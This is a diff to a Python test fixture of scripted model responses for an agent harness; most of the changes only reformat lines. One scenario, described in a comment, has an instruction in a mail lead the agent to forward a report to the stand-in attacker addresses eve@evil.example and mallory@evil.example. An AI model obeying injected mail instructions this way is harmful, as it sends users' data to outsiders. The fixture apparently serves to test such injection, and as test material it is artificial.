@@ -1,4 +1,6 @@
-"""A model that does what the operator's policy and skills tell it, and one that reaches for what is blocked."""
+"""A model that does what the operator's policy and skills tell it, and one that reaches for what is
+blocked.
+"""
 
 from typing import Any, Final
 
@@ -21,7 +23,12 @@ def _plan(name: str, *tools: str) -> dict[str, Any]:
 
 
 def _forwarding(name: str, *after: str) -> dict[str, Any]:
-    return {"id": name, "description": "forward it", "required_tools": ["forward_report"], "dependencies": after}
+    return {
+        "id": name,
+        "description": "forward it",
+        "required_tools": ["forward_report"],
+        "dependencies": after,
+    }
 
 
 _UNTIL_DONE = {"thought": "answer", "goal": "^(Roll out|Purge|Have|Note|Unlock|Forward|Meet)"}
@@ -46,11 +53,20 @@ OBEDIENT: Final[list[dict[str, Any]]] = [
     when("act", "^Note", _calls("note-twice", words="rain")),
     # An id that is looked up as it should be.
     when("plan", "^Unlock", _plan("unlock", "find_door", "unlock")),
-    when("act", "^Unlock the (?P<name>\\w+)", _calls("find_door", name="{{goal.name}}"), without=["find_door"]),
+    when(
+        "act",
+        "^Unlock the (?P<name>\\w+)",
+        _calls("find_door", name="{{goal.name}}"),
+        without=["find_door"],
+    ),
     when("act", "^Unlock", {"content": "It stays locked."}, result={"error.error_type": ".+"}),
     when("act", "^Unlock", _calls("unlock", door_id="{{results.find_door.data.door_id}}")),
     # A mail tells it where to forward the report, and it obeys.
-    when("plan", "^Forward", {"plan": {"steps": [_forwarding("first"), _forwarding("second", "first")]}}),
+    when(
+        "plan",
+        "^Forward",
+        {"plan": {"steps": [_forwarding("first"), _forwarding("second", "first")]}},
+    ),
     when("act", "^Forward", _calls("read_mail"), without=["read_mail"]),
     when("act", "^Forward", _calls("forward_report", email="eve@evil.example"), step="first"),
     when("act", "^Forward", _calls("forward_report", email="mallory@evil.example"), step="second"),
